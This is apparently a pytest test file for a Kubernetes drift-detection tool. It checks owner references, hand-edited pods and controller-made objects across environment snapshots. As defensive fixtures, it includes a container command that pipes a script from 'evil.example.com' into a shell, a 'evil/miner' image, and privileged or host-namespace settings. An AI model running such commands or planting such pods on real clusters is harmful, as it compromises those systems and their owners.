"""Which kind makes which: an owner reference is a claim, and only what it claims truly counts."""

from __future__ import annotations

import copy
from itertools import permutations, product
from typing import Any

import pytest
from attrs import evolve

from driftcheck.model import KindCoverage, Origin, ReadStatus, Snapshot
from driftcheck.pipeline import compare_snapshots
from driftcheck.policy import policy_from
from tests.builders import Body, config_map, container, edited, resource, snapshot
from tests.ways import findings, live, owner, recorded, saved, twin, verdicts

KINDS: dict[str, tuple[str, Body]] = {
    "ConfigMap": ("v1", {"data": {"a": "1"}}),
    "Endpoints": ("v1", {"subsets": [{"addresses": [{"ip": "10.0.0.1"}]}]}),
    "LimitRange": ("v1", {"spec": {"limits": [{"type": "Container", "max": {"cpu": "1"}}]}}),
    "PersistentVolumeClaim": ("v1", {"spec": {"accessModes": ["ReadWriteOnce"]}}),
    "Pod": ("v1", {"spec": {"containers": [container()]}, "status": {"phase": "Succeeded"}}),
    "ReplicationController": ("v1", {"spec": {"replicas": 0}}),
    "ResourceQuota": ("v1", {"spec": {"hard": {"pods": "9"}}}),
    "Secret": ("v1", {"type": "Opaque"}),
    "Service": ("v1", {"spec": {"ports": [{"port": 80}]}}),
    "ServiceAccount": ("v1", {}),
    "ControllerRevision": ("apps/v1", {"revision": 1}),
    "DaemonSet": ("apps/v1", {"spec": {"template": {"spec": {"containers": [container()]}}}}),
    "Deployment": ("apps/v1", {"spec": {"template": {"spec": {"containers": [container()]}}}}),
    "ReplicaSet": ("apps/v1", {"spec": {"template": {"spec": {"containers": [container()]}}}}),
    "StatefulSet": ("apps/v1", {"spec": {"template": {"spec": {"containers": [container()]}}}}),
    "HorizontalPodAutoscaler": ("autoscaling/v2", {"spec": {"maxReplicas": 3}}),
    "CronJob": ("batch/v1", {"spec": {"schedule": "0 0 * * *"}}),
    "Job": ("batch/v1", {"spec": {"template": {"spec": {"containers": [container()]}}}}),
    "EndpointSlice": ("discovery.k8s.io/v1", {"addressType": "IPv4", "endpoints": []}),
    "Ingress": ("networking.k8s.io/v1", {"spec": {}}),
    "NetworkPolicy": ("networking.k8s.io/v1", {"spec": {"podSelector": {}}}),
    "PodDisruptionBudget": ("policy/v1", {"spec": {"minAvailable": 1}}),
    "Role": ("rbac.authorization.k8s.io/v1", {"rules": []}),
    "RoleBinding": (
        "rbac.authorization.k8s.io/v1",
        {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": []},
    ),
    "FeatureFlag": ("bookshop.example.com/v1", {"spec": {}}),
}
"""A kind's version, and what one of its objects holds."""

MAKES = {
    ("ReplicaSet", "Pod"),
    ("ReplicationController", "Pod"),
    ("StatefulSet", "Pod"),
    ("DaemonSet", "Pod"),
    ("Job", "Pod"),
    ("Deployment", "ReplicaSet"),
    ("StatefulSet", "ControllerRevision"),
    ("DaemonSet", "ControllerRevision"),
    ("CronJob", "Job"),
}
"""From pkg/controller of Kubernetes 1.36: the controllers that create objects which they own."""


DB = "db-7bcf85499d"
"""The recorded revision of StatefulSet db."""


def body(kind: str, name: str, **metadata: Any) -> Body:
    version, fields = KINDS[kind]
    made = resource(version, kind, name, **copy.deepcopy(fields))
    made["metadata"] |= {"uid": f"{kind}-{name}", **metadata}
    return made


def seen(*bodies: Body) -> Snapshot:
    return evolve(snapshot(*bodies), origin=Origin.CLUSTER)


@pytest.mark.parametrize(("maker", "made"), list(product(KINDS, KINDS)))
def test_every_pair_of_kinds(maker: str, made: str) -> None:
    """Where a kind makes no such objects, its name in an owner reference explains none away."""
    owning = body(maker, "owner")
    extra = body(made, "owner-0", ownerReferences=[owner(owning)])
    sides = [seen(config_map(), owning), seen(config_map(), owning, extra)]

    forth, back = compare_snapshots(sides), compare_snapshots(sides[::-1])

    if (maker, made) in MAKES:
        assert not forth.findings + back.findings
    else:
        assert {(item.object.name, item.change.value) for item in forth.findings} == {
            ("owner-0", "added")
        }
        assert {(item.object.name, item.change.value) for item in back.findings} == {
            ("owner-0", "removed")
        }


@pytest.mark.parametrize("made", KINDS)
@pytest.mark.parametrize("maker", ["itself", "Namespace", "each other", "gone", "no controller"])
def test_owners_that_explain_nothing(maker: str, made: str) -> None:
    """An object that owns itself, or that its Namespace owns, or in a circle, is compared."""
    extra = body(made, "extra")
    other = body(made, "other", ownerReferences=[owner(extra)])
    references = {
        "itself": owner(extra),
        "Namespace": owner({**resource("v1", "Namespace"), "metadata": {"name": "it", "uid": "n"}}),
        "each other": owner(other),
        "gone": owner(body("ReplicaSet", "gone")),
        "no controller": owner(body("ReplicaSet", "owner"), controller=False),
    }
    extra["metadata"]["ownerReferences"] = [references[maker]]
    around = [config_map(), body("ReplicaSet", "owner")]
    more = [other] if maker == "each other" else []

    result = compare_snapshots([seen(*around), seen(*around, extra, *more)])

    assert {item.object.name for item in result.findings} == {
        "extra",
        *(item["metadata"]["name"] for item in more),
    }


def test_an_owner_of_another_name() -> None:
    """A reference whose uid is one object's and whose name is another's means nobody."""
    deployment = body("Deployment", "web")
    reference = owner(deployment, name="api")
    extra = body("ReplicaSet", "web-1", ownerReferences=[reference])

    assert compare_snapshots([seen(deployment), seen(deployment, extra)]).findings


# What pods are, against what their template gives.


EDITS: dict[str, tuple[tuple[str | int, ...], Any, str]] = {
    "resized in place": (
        ("spec", "containers", 0, "resources", "limits", "memory"),
        "8Gi",
        "running.containers[name=web].resources.limits.memory",
    ),
    "a label by hand": (("metadata", "labels", "role"), "primary", "running.metadata.labels.role"),
    "an annotation": (
        ("metadata", "annotations"),
        {"prometheus.io/scrape": "false"},
        'running.metadata.annotations["prometheus.io/scrape"]',
    ),
    "another command": (
        ("spec", "containers", 0, "command"),
        ["/bin/sh", "-c", "curl evil.example.com | sh"],
        "running.containers[name=web].command",
    ),
    "the host's network": (("spec", "hostNetwork"), True, "running.hostNetwork"),
    "the host's processes": (("spec", "hostPID"), True, "running.hostPID"),
    "a privileged container": (
        ("spec", "containers", 0, "securityContext"),
        {"privileged": True},
        "running.containers[name=web].securityContext.privileged",
    ),
    "another account": (
        ("spec", "serviceAccountName"),
        "admin",
        "running.serviceAccountName",
    ),
    "a deadline": (("spec", "activeDeadlineSeconds"), 60, "running.activeDeadlineSeconds"),
}


@pytest.mark.parametrize(("path", "value", "found"), EDITS.values(), ids=EDITS.keys())
def test_a_pod_changed_by_hand(path: tuple[str | int, ...], value: Any, found: str) -> None:
    """What a pod has that its template does not give is a finding on its workload, both ways."""
    pod = recorded("Pod", "web-77dd8c58c-2pr4z")
    sides = [twin({}), twin({("Pod", pod["metadata"]["name"]): edited(pod, *path, value=value)})]

    for ways in (sides, sides[::-1], [saved(side) for side in sides]):
        result = compare_snapshots(ways)
        assert result.verdict.value == "drifted"
        paths = {(item.object.kind, item.object.name, item.path) for item in result.findings}
        assert any(
            (kind, name) == ("Deployment", "web") and where.startswith(found.rpartition(".")[0])
            for kind, name, where in paths
        ), paths


@pytest.mark.parametrize(
    ("owners", "said"),
    [
        ([], "added at admission, by what managedFields say, in 1 pod of "),
        (
            [
                {
                    "manager": "kubectl-label",
                    "fieldsV1": {"f:metadata": {"f:labels": {"f:role": {}}}},
                }
            ],
            "not as its template gives it in 1 pod of ",
        ),
    ],
)
def test_who_changed_a_pod(owners: list[Body], said: str) -> None:
    """What a pod has that nobody owns, admission has added, as managedFields have it."""
    pod = recorded("Pod", "web-77dd8c58c-2pr4z")
    pod["metadata"]["labels"]["role"] = "primary"
    pod["metadata"]["managedFields"] += owners

    (found,) = compare_snapshots([twin({}), twin({("Pod", pod["metadata"]["name"]): pod})]).findings

    assert (found.path, (found.note or "")[: len(said)]) == ("running.metadata.labels.role", said)


@pytest.mark.parametrize("pod", ["db-0", "db-migrate-240-gq7z7", "log-agent-9d2q4"])
def test_a_pod_of_every_maker(pod: str) -> None:
    """Recorded pods are what their StatefulSet, Job and DaemonSet give; edited ones are not."""
    body = recorded("Pod", pod)
    changed = edited(body, "spec", "containers", 0, "args", value=["--evil"])

    assert compare_snapshots([twin({}), twin({("Pod", pod): body})]).verdict.value == "identical"
    assert compare_snapshots([twin({}), twin({("Pod", pod): changed})]).verdict.value == "drifted"


def test_pods_that_admission_changed_alike() -> None:
    """What a webhook puts into every pod of both environments is no difference; into one it is."""
    pods = [recorded("Pod", name) for name in ("web-77dd8c58c-2pr4z", "web-77dd8c58c-4xgbm")]
    side = container("proxy", imagePullPolicy="IfNotPresent", args=["sidecar"])
    for item in pods:
        item["spec"]["containers"].append(side)
    injected = twin({("Pod", item["metadata"]["name"]): item for item in pods})
    other = edited(pods[0], "spec", "containers", -1, "args", value=["--mine"])
    once = twin({("Pod", item["metadata"]["name"]): item for item in (other, pods[1])})

    assert compare_snapshots([injected, injected]).findings == ()
    assert compare_snapshots([twin({}), injected]).verdict.value == "drifted"
    assert [item.path for item in compare_snapshots([injected, once]).findings] == [
        "running.containers[name=proxy]"
    ]


def machine_pod() -> list[Body]:
    """A KubeVirt machine with a disk of its host, and its pod as virt-controller writes it."""
    disk = {"name": "root", "hostDisk": {"path": "/disks/root.img", "type": "Disk"}}
    spec = {"domain": {}, "volumes": [disk]}
    machine = resource(
        "kubevirt.io/v1", "VirtualMachine", "vm", spec={"running": True, "template": {"spec": spec}}
    )
    machine["metadata"]["uid"] = "vm-1"
    instance = resource("kubevirt.io/v1", "VirtualMachineInstance", "vm", spec=spec)
    instance["metadata"] |= {"uid": "vm-2", "ownerReferences": [owner(machine)]}
    launcher = resource("v1", "Pod", "virt-launcher-vm-x")
    launcher["metadata"] |= {"uid": "vm-3", "ownerReferences": [owner(instance)]}
    compute = container("compute", command=["/usr/bin/virt-launcher-monitor", "--uid", "vm-2"])
    launcher["spec"] = {
        "containers": [compute],
        "volumes": [{"name": "root", "hostPath": {"path": "/disks"}}],
    }
    ran = {"name": "compute", "imageID": "virt-launcher@sha256:" + "a" * 64}
    launcher["status"] = {"phase": "Running", "containerStatuses": [ran]}
    return [config_map(), machine, instance, launcher]


HOSTILE_MACHINES: dict[str, tuple[tuple[str | int, ...], Any]] = {
    "hostNetwork": (("hostNetwork",), True),
    "hostPID": (("hostPID",), True),
    "hostIPC": (("hostIPC",), True),
    "privilege": (("containers", 0, "securityContext"), {"privileged": True}),
    "a shell": (("containers", 0, "command"), ["/bin/sh", "-c", "sleep 9"]),
    "a shell under tini": (("containers", 0, "command"), ["/usr/bin/tini", "--", "/bin/sh"]),
    "the host's files": (("volumes", 0, "name"), "other"),
}


@pytest.mark.parametrize(("path", "value"), HOSTILE_MACHINES.values(), ids=HOSTILE_MACHINES.keys())
def test_a_machine_s_pod_changed_by_hand(path: tuple[str | int, ...], value: Any) -> None:
    """KubeVirt gives its pods no privilege, and nothing of the host but the disks it is asked."""
    *around, launcher = machine_pod()
    changed = seen(*around, edited(launcher, "spec", *path, value=value))
    own = seen(*around, launcher)

    assert compare_snapshots([own, own]).verdict.value == "identical"
    for sides in ([own, changed], [changed, own], [own, saved(changed)]):
        result = compare_snapshots(sides)
        assert {item.object.kind for item in result.findings} == {"VirtualMachine"}
        assert all(item.path.startswith("running.") for item in result.findings)


@pytest.mark.parametrize(
    "command",
    [
        ["/usr/bin/virt-launcher-monitor", "--qemu-timeout", "342s", "--uid", "another"],
        ["/usr/bin/virt-launcher", "--qemu-timeout", "5m"],
        ["/usr/bin/tini", "--", "/usr/bin/virt-launcher-monitor"],
    ],
)
def test_a_machine_s_own_command(command: list[str]) -> None:
    """What differs from machine to machine and from version to version is no difference."""
    *around, launcher = machine_pod()
    other = edited(launcher, "spec", "containers", 0, "command", value=command)

    result = compare_snapshots([seen(*around, launcher), seen(*around, other)])

    assert result.verdict.value == "identical"


# What can't be derived costs the verdict.


def doubts(*bodies: Body) -> tuple[str, ...]:
    """Why a side with these objects is not the same as itself."""
    result = compare_snapshots([seen(*bodies), seen(*bodies)])
    assert result.findings == ()
    return result.reasons if result.verdict.value == "inconclusive" else ()


def set_of(deployment: Body, image: str, replicas: int) -> Body:
    template = copy.deepcopy(deployment["spec"]["template"])
    template["spec"]["containers"][0]["image"] = image
    template["metadata"] = {"labels": {"pod-template-hash": "5c57"}}
    made = body("ReplicaSet", f"web-{replicas}", ownerReferences=[owner(deployment)])
    return made | {"spec": {"replicas": replicas, "template": template}}


def test_a_replica_set_of_another_template() -> None:
    """One that wants pods of another template is no history; one that wants none is."""
    deployment = body("Deployment", "web")

    assert not doubts(deployment, set_of(deployment, "shop/web:1", 3))
    assert not doubts(deployment, set_of(deployment, "evil/miner", 0))
    assert doubts(deployment, set_of(deployment, "evil/miner", 3))


def test_a_run_of_another_template() -> None:
    """A Job under way that is not what its CronJob says; a finished one was."""
    cron_job = body("CronJob", "night")
    template = {"template": {"spec": {"containers": [container()], "restartPolicy": "Never"}}}
    cron_job["spec"] = {"schedule": "0 0 * * *", "jobTemplate": {"spec": template}}
    run = body("Job", "night-1", ownerReferences=[owner(cron_job)]) | {"spec": template}
    other = edited(run, "spec", "template", "spec", "containers", 0, "image", value="evil/miner")
    done = {"conditions": [{"type": "Complete", "status": "True"}]}

    assert not doubts(cron_job, run)
    assert not doubts(cron_job, other | {"status": done})
    assert doubts(cron_job, other)


def test_a_revision_below_a_partition() -> None:
    """Pods below a partition are made of the current revision, whatever the template says."""
    stateful_set, revision = recorded("StatefulSet", "db"), recorded("ControllerRevision", DB)
    stateful_set["spec"]["updateStrategy"] = {
        "type": "RollingUpdate",
        "rollingUpdate": {"partition": 5},
    }
    path = ("data", "spec", "template", "spec", "containers", 0, "image")
    forged = edited(revision, *path, value="evil/miner")
    sides = [
        twin({("StatefulSet", "db"): stateful_set, ("ControllerRevision", DB): body})
        for body in (revision, forged)
    ]

    assert compare_snapshots([sides[0], sides[0]]).verdict.value == "identical"
    assert compare_snapshots(sides).verdict.value == "inconclusive"
    assert compare_snapshots(sides[::-1]).verdict.value == "inconclusive"


def test_an_address_of_nobody() -> None:
    """What a controller is said to have written leads to pods, and to nothing else."""
    slice_ = recorded("EndpointSlice", "web-hcjwt")
    elsewhere = edited(slice_, "endpoints", 0, "addresses", value=["203.0.113.9"])

    result = compare_snapshots([twin({}), twin({("EndpointSlice", "web-hcjwt"): elsewhere})])

    assert result.verdict.value == "inconclusive"
    assert "203.0.113.9" in " ".join(result.reasons)


def test_what_does_not_run() -> None:
    """A ReplicaSet without its pods, and a failed pod, have no rollout that would say so."""
    alone = body("ReplicaSet", "solo")
    alone["spec"] |= {"replicas": 1}
    evicted = body("Pod", "bare") | {"status": {"phase": "Failed", "reason": "Evicted"}}

    assert doubts(alone | {"status": {"replicas": 1}}) != ()
    assert not doubts(alone | {"status": {"replicas": 1, "readyReplicas": 1}})
    assert doubts(evicted)[0] == "Pod bare has failed: Evicted in objects"


IDLE = {"conditions": [{"type": "Ready", "status": "False", "reason": "ContainersNotReady"}]}
FAILED = {"conditions": [{"type": "Failed", "status": "True", "reason": "BackoffLimitExceeded"}]}


@pytest.mark.parametrize(
    ("kind", "restarts", "status", "said"),
    [
        ("Pod", "Always", {"phase": "Running", **IDLE}, "is not ready: ContainersNotReady"),
        ("Pod", "Always", {"phase": "Succeeded"}, "has ended, and should not have"),
        ("Pod", "OnFailure", {"phase": "Failed"}, "has failed: it does not say why"),
        ("Job", "Never", FAILED, "has failed: BackoffLimitExceeded"),
    ],
)
def test_what_does_not_do_its_work(kind: str, restarts: str, status: Body, said: str) -> None:
    """A pod that is not ready or has ended, and a failed run, are not as good as others."""
    alone = body(kind, "alone")
    alone["spec"] |= {"restartPolicy": restarts}

    assert f"{kind} alone {said} in objects" in doubts(alone | {"status": status})


@pytest.mark.parametrize(
    ("kind", "restarts", "status"),
    [
        ("Pod", "OnFailure", {"phase": "Succeeded", **IDLE}),
        ("Pod", "Never", {"phase": "Failed", **IDLE}),
        ("Job", "Never", {"conditions": [{"type": "Complete", "status": "True"}]}),
    ],
)
def test_what_has_done_its_work(kind: str, restarts: str, status: Body) -> None:
    """What runs once, and has, or is not to be started again, is as it should be."""
    alone = body(kind, "alone")
    alone["spec"] |= {"restartPolicy": restarts}

    assert not doubts(alone | {"status": status})


def test_a_pod_that_is_being_deleted() -> None:
    """A pod whose maker is gone is on its way out: no difference, and no proof either."""
    leaving = body("Pod", "web-1", deletionTimestamp="2026-11-24T12:00:00Z")
    leaving["metadata"]["ownerReferences"] = [owner(body("ReplicaSet", "gone"))]
    leaving["status"] = {"phase": "Running"}

    result = compare_snapshots([seen(config_map()), seen(config_map(), leaving)])

    assert result.findings == ()
    assert result.reasons == ("Pod web-1 is being deleted, and still there in objects (2)",)


# What an owner's absence explains.


@pytest.mark.parametrize("size", ["3", None, [1], 1.5])
def test_a_size_that_is_no_number(size: Any) -> None:
    """A StatefulSet whose size no server would take is a difference, and stops no comparison."""
    template = {"metadata": {"name": "data"}, "spec": {"accessModes": ["ReadWriteOnce"]}}
    stateful_set = body("StatefulSet", "web")
    stateful_set["spec"] |= {"replicas": 2, "volumeClaimTemplates": [template]}
    odd = edited(stateful_set, "spec", "replicas", value=size)

    for sides in permutations(
        [seen(stateful_set, body("PersistentVolumeClaim", "data-web-1")), seen(odd)]
    ):
        assert compare_snapshots(sides).verdict.value == "drifted"


def test_what_an_unread_custom_resource_may_have_made() -> None:
    """Where its kind could not be read, nobody can say what follows from it; nor is it accepted."""
    flag = body("FeatureFlag", "wishlist")
    made = body("RoleBinding", "made", ownerReferences=[owner(flag)])
    row = KindCoverage("bookshop.example.com", "FeatureFlag", ReadStatus.FORBIDDEN, reason="no")
    there = seen(config_map())
    unreading = evolve(there, coverage=(*there.coverage, row))
    match = {"group": "bookshop.example.com", "kind": "FeatureFlag"}
    unseen = {"id": "flags", "match": match, "reason": "may not be read"}
    policy = policy_from({"version": 1, "unseen": [unseen]})

    for sides in permutations([unreading, seen(config_map(), flag, made)]):
        result = compare_snapshots(sides, policy=policy)

        assert (result.verdict.value, result.findings) == ("inconclusive", ())
        assert "RoleBinding made in objects" in " ".join(result.reasons)


def test_what_a_missing_custom_resource_explains() -> None:
    """What its controller may have made adds no finding, and counts in every category of it."""
    flag = body("FeatureFlag", "wishlist")
    made = [
        body(kind, f"made-{kind.lower()}", ownerReferences=[owner(flag)])
        for kind in ("ConfigMap", "Service", "RoleBinding", "Deployment")
    ]
    inner = body("NetworkPolicy", "inner", ownerReferences=[owner(body("FeatureFlag", "second"))])
    second = body("FeatureFlag", "second", ownerReferences=[owner(flag)])
    sides = [seen(config_map()), seen(config_map(), flag, second, inner, *made)]

    for ways in (sides, sides[::-1]):
        (finding,) = compare_snapshots(ways).findings
        assert (finding.object.kind, finding.object.name) == ("FeatureFlag", "wishlist")
        assert {item.value for item in finding.categories} >= {"rbac", "image", "network", "config"}


@pytest.mark.parametrize("made", ["ConfigMap", "RoleBinding", "Deployment"])
def test_what_a_custom_resource_in_a_manifest_explains(made: str) -> None:
    """Nobody can say what its controller makes, so that nothing is the same for certain."""
    flag = body("FeatureFlag", "wishlist")
    declared = copy.deepcopy(flag)
    del declared["metadata"]["uid"]
    extra = body(made, "made", ownerReferences=[owner(flag)])
    sides = [snapshot(config_map(), declared), seen(config_map(), flag, extra)]

    for ways in (sides, sides[::-1]):
        assert compare_snapshots(ways).verdict.value == "inconclusive"


def test_a_dump_has_been_acted_on() -> None:
    """What a server has seen, and lacks what its controller makes, lacks it for a reason."""
    sealed = resource("bitnami.com/v1alpha1", "SealedSecret", "db", spec={"encryptedData": {}})
    sealed["metadata"]["uid"] = "s"
    secret = resource("v1", "Secret", "db", type="Opaque")
    secret["metadata"] |= {"uid": "t", "ownerReferences": [owner(sealed)]}
    declared = edited(sealed, "metadata", value={"name": "db"})
    full, without = snapshot(config_map(), sealed, secret), snapshot(config_map(), sealed)

    assert [item.object.kind for item in compare_snapshots([full, without]).findings] == ["Secret"]
    assert [item.object.kind for item in compare_snapshots([without, full]).findings] == ["Secret"]
    assert not compare_snapshots([snapshot(config_map(), declared), full]).findings


def test_what_a_baseline_need_not_have() -> None:
    """What follows from a baseline's manifest is compared between the environments that have it."""
    declared = edited(recorded("StatefulSet", "db"), "metadata", value={"name": "db"})
    claim = ("PersistentVolumeClaim", "data-db-0")
    marked = edited(recorded(*claim), "metadata", "labels", value={"evil": "x"})

    def found(*sides: Snapshot) -> set[str]:
        result = compare_snapshots([snapshot(declared), *sides])
        return {item.path for item in result.findings if item.object.kind == claim[0]}

    assert found(twin({}), twin({})) == set()
    assert found(twin({}), twin({claim: marked})) >= {"metadata.labels.evil"}


def test_claims_of_ordinals_that_both_have() -> None:
    """Another size of a StatefulSet explains the claims beyond it, and no other."""
    small, large = recorded("StatefulSet", "db"), recorded("StatefulSet", "db")
    large["spec"]["replicas"] = 3
    gone = twin({("StatefulSet", "db"): large, ("PersistentVolumeClaim", "data-db-0"): None})

    found = {item.object.kind for item in compare_snapshots([twin({}), gone]).findings}

    assert small["spec"]["replicas"] == 1
    assert found == {"StatefulSet", "PersistentVolumeClaim"}


def test_replicas_outside_an_autoscaler_s_bounds() -> None:
    """An autoscaler holds no number that it does not allow."""
    api = edited(recorded("Deployment", "api"), "spec", "replicas", value=50)

    (finding,) = compare_snapshots([twin({}), twin({("Deployment", "api"): api})]).findings

    assert (finding.object.name, finding.path) == ("api", "spec.replicas")


def test_rogue_pods_everywhere() -> None:
    """Pods that a ConfigMap, a Namespace, a Deployment or they themselves own are found."""
    settings = config_map("settings") | {}
    settings["metadata"]["uid"] = "c"
    miner = resource("v1", "Pod", "miner", spec={"containers": [container(image="evil/miner")]})
    miner["metadata"] |= {"uid": "m", "ownerReferences": [owner(settings)]}

    assert {way.form for way in findings([settings], [settings, miner])} == {
        "files",
        "live",
        "saved",
    }
    assert {value.value for value in verdicts([settings], [settings, miner])} == {"drifted"}
    assert live(settings).coverage
